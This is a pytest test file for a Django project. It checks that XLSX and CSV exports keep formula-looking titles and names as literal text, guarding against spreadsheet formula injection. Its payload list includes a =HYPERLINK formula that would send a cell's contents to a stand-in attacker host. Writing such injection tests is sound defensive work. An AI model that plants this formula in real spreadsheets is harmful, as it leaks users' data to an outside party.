"""Exports write user text as text: a title or name that looks like a formula stays literal text in every
XLSX and CSV export (no live =HYPERLINK in the call answers or the group lists)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone

from samskap.core.exports import csv_cell, csv_stream, save_workbook
from samskap.directory.models import County, Municipality

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"Klikk her")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]


def _cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_a_workbook_never_keeps_a_formula():
    wb = openpyxl.Workbook()
    wb.active.append([*PAYLOADS, 42, dt.date(2027, 1, 5)])
    cells = _cells(save_workbook(wb))
    assert [c.value for c in cells[: len(PAYLOADS)]] == PAYLOADS
    assert all(c.data_type != "f" for c in cells)
    assert cells[len(PAYLOADS)].value == 42  # numbers stay numbers
    assert isinstance(cells[len(PAYLOADS) + 1].value, dt.datetime)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("@x", "'@x"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("\tx", "'\tx"),
    ("+47 22 00 00 00", "+47 22 00 00 00"), ("Ola", "Ola"), ("", ""),
])
def test_csv_cells(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.django_db
def test_call_export_keeps_a_formula_title_as_text(coordinator, contact_steinkjer):
    from samskap.needs import actions
    from samskap.needs.exports import call_answers_xlsx

    call = actions.open_call(title="Innspill", question="Hva trenger dere?",
                             deadline=timezone.now() + dt.timedelta(days=14), county=County.objects.get(code="50"), actor=coordinator.user)
    actions.submit_need(Municipality.objects.get(code="5006"),
                        {"title": PAYLOADS[0], "description": PAYLOADS[1], "sector": "health"}, call=call, actor=contact_steinkjer.user)
    cells = _cells(call_answers_xlsx(call))
    assert any(c.value == PAYLOADS[0] for c in cells)
    assert all(c.data_type != "f" for c in cells)


def test_csv_stream_is_formula_safe_row_by_row():
    chunks = list(csv_stream(["Navn", "=x"], iter([["=HYPERLINK(\"y\")", "+47 22 00 00 00"], ["@a", "b;c"]]),
                             delimiter=";", bom=True))
    assert len(chunks) == 3  # the header and one chunk per row: nothing is collected first
    text = b"".join(chunks).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["Navn", "'=x"], ["'=HYPERLINK(\"y\")", "+47 22 00 00 00"], ["'@a", "b;c"]]
